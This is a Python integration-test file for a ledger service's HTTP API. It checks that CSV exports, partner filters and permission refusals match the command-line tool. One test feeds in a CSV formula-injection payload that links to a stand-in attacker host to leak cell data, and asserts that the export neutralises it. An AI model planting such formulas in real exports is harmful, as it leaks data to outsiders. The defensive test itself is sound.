"""The API and the pages on a real ``corledger serve`` (loopback, a real ledger file) answer
as the command line does: the same CSV writer, the same filters, the same refusals of
parameters at the calendar's edges, and the same name for an employer."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import orjson
import pytest

from tests.conftest import Cli
from tests.service_support import OTHER, OWN, http, jsonl, seed, served, tokens

pytestmark = pytest.mark.integration  # a real server on loopback


def test_the_changes_csv_neutralises_a_formula_cell(db_url: str, tmp_path: Path) -> None:
    seed(db_url)
    made = tokens(db_url)
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
    body = jsonl([{"id": evil, "type": "EmployerRegistered", "employer": "BC-7777777",
                   "effective": "2024-01-01",
                   "data": {"name": "Formula Test Ltd", "partner": "BCCSA", "program": "COR",
                            "classification_units": ["721005"], "headcount": 10}}])
    with served(db_url, tmp_path) as (base, _):
        status, _, answer = http("POST", f"{base}/v1/events", made["partner"], body,
                                 {"Content-Type": "application/x-ndjson"})
        assert status == 200, answer
        status, headers, answer = http("GET", f"{base}/v1/changes?since=2024-01-01"
                                              "&as_of=2024-06-01", made["partner"],
                                       headers={"Accept": "text/csv"})
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    rows = {r["employer"]: r for r in csv.DictReader(io.StringIO(answer.decode()))}
    assert rows["BC-7777777"]["events"] == "'" + evil


def test_lapses_honour_the_partner_filter_as_the_command_does(cli: Cli, db_url: str,
                                                             tmp_path: Path) -> None:
    seed(db_url)
    made = tokens(db_url)
    window = "as_of=2021-05-01&within=365"
    command = cli.json("lapses", "--as-of", "2021-05-01", "--within", "365",
                       "--partner", "GO2HR")
    assert [e["employer"] for e in command] == [OTHER]
    with served(db_url, tmp_path) as (base, _):
        def lapses(token: str, query: str) -> tuple[int, bytes]:
            status, _, body = http("GET", f"{base}/v1/lapses?{window}{query}", made[token])
            return status, body

        status, body = lapses("regulator", "")
        assert status == 200
        assert {e["employer"] for e in orjson.loads(body)["lapses"]} == {OWN, OTHER}
        status, body = lapses("regulator", "&partner=GO2HR")
        assert status == 200
        assert orjson.loads(body)["partner"] == "GO2HR"
        assert orjson.loads(body)["lapses"] == command
        status, body = lapses("partner", "&partner=BCCSA")
        assert status == 200
        assert [e["employer"] for e in orjson.loads(body)["lapses"]] == [OWN]
        status, body = lapses("partner", "&partner=GO2HR")  # another partner's: as the lists
        assert status == 403
        status, body = lapses("regulator", "&partner=NOBODY")
        assert status == 422 and b"partner" in body
